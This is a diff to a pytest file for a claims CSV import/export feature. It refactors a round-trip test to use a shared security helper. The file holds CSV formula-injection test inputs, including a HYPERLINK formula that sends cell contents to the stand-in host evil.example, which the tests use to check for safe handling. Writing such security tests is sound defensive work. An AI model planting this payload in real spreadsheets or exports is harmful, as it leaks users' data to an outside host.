@@ -13,12 +13,13 @@ import io
 
 import pytest
 
-from claims.bulk import DEFAULT, claims_export, claims_import_report
+from claims.bulk import DEFAULT, claims_export
 from claims.bulk.mapping import read_row
 from claims.bulk.rows import RowReader
 from claims.models import Claim, Source, Speaker, Topic
 from config.untrusted import csv_cell, csv_cell_read
 from tests import factories
+from tests.security.conftest import import_rows
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
 FORMULAS = [HYPERLINK, "@SUM(1)", "-5%", "+1", "\t=1+1", "\r=1+1", "=1+1"]
@@ -93,11 +94,9 @@ def test_an_exported_claim_imported_into_an_empty_desk_is_the_same_claim(
     Speaker.objects.all().delete()
     Topic.objects.all().delete()
 
-    report = claims_import_report(
-        actor=editor, stream=io.BytesIO(text.encode()), file_format="csv", mapping=DEFAULT
-    )
+    rows = import_rows(editor, text.encode(), "csv")
 
-    assert [line.status for line in report.rows] == ["created"]
+    assert [line.status for line in rows] == ["created"]
     claim = Claim.objects.get()
     assert claim.statement == HYPERLINK
     assert list(claim.topics.values_list("name", flat=True)) == ["-5%"]
